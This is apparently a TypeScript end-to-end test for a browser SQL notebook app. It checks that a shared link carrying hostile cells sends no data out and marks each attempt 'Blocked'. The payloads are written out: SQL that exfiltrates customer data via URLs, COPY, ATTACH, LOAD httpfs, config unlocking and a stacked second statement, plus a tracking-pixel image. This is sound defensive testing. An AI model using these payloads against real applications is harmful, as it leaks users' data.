// A shared link whose cells try to send the user's data to another server: SQL that reads a
// URL built from the data, COPY, ATTACH, LOAD, unlocking the configuration, and a note with an
// image on that server. A server on 127.0.0.1 records every request: it must record none, and
// each attempt reads "Blocked" on the page.
import { afterEach, beforeEach, describe, expect, inject, it } from 'vitest';
import { encodeNotebook } from '../../src/lib/notebook/codec';
import { defaultNotebook, type Notebook } from '../../src/lib/notebook/model';
import { loadSample, openPage, requestsSettled, type Watched } from './browser';
import { startRecorder, type Recorder } from './recorder';

function hostile(server: string): Notebook {
  const base = defaultNotebook();
  const data = `(SELECT string_agg(customer, ',') FROM customers)`;
  const queries = [
    `SELECT * FROM read_csv('${server}/read_csv?d=' || ${data})`,
    `SELECT * FROM '${server}/replacement-scan.csv'`,
    `COPY (SELECT * FROM customers) TO '${server}/copy.csv'`,
    `ATTACH '${server}/attach.duckdb' AS remote`,
    `LOAD httpfs`,
    `SET enable_external_access = true`,
    `SELECT 1; SELECT * FROM read_text('${server}/second-statement')`,
  ];
  return {
    ...base,
    cells: [
      { id: 'summary', kind: 'summary', collapsed: false },
      {
        id: 'note',
        kind: 'markdown',
        collapsed: false,
        text: `Sales ![pixel](${server}/pixel.png?d=secret)`,
      },
      ...queries.map((sql, i) => ({ id: `q${i}`, kind: 'sql' as const, collapsed: false, sql })),
    ],
  };
}

describe('a shared link that tries to send the data elsewhere', () => {
  let w: Watched;
  let recorder: Recorder;
  beforeEach(async () => {
    recorder = await startRecorder();
  });
  afterEach(async () => {
    await w?.browser.close();
    await recorder.close();
  });

  it('sends nothing, and says "Blocked" for every attempt', async () => {
    const link = `${inject('baseURL')}#nb=${await encodeNotebook(hostile(recorder.origin))}`;
    w = await openPage(link);
    const { page } = w;
    await page.getByText(/This notebook came with 7 SQL queries/).waitFor();
    await page.getByText('Blocked: 1 image from another site was not loaded').waitFor();
    await loadSample(page);
    await page.getByRole('button', { name: 'Run shared SQL' }).click();

    const sqlCells = page.locator('section.notebook-cell').filter({
      has: page.locator('header .title', { hasText: /^SQL$/ }),
    });
    expect(await sqlCells.count()).toBe(7);
    for (let i = 0; i < 7; i++) {
      const alert = sqlCells.nth(i).getByRole('alert');
      await alert.waitFor({ timeout: 240_000 });
      expect(await alert.textContent(), `query ${i}`).toMatch(/^Blocked: /);
    }
    // The one that reached the engine was refused by the locked database itself.
    expect(await sqlCells.nth(1).getByRole('alert').textContent()).toMatch(
      /tried to reach the network[\s\S]*(Permission|disabled|external)/i,
    );
    // The analyses still work, and the database still answers ordinary queries.
    expect(await page.locator('[data-figure=customers] dd').textContent()).toBe('3,500');
    await requestsSettled(page);
    expect(recorder.requests).toEqual([]);
    expect(w.problems).toEqual([]);
  }, 600_000);
});
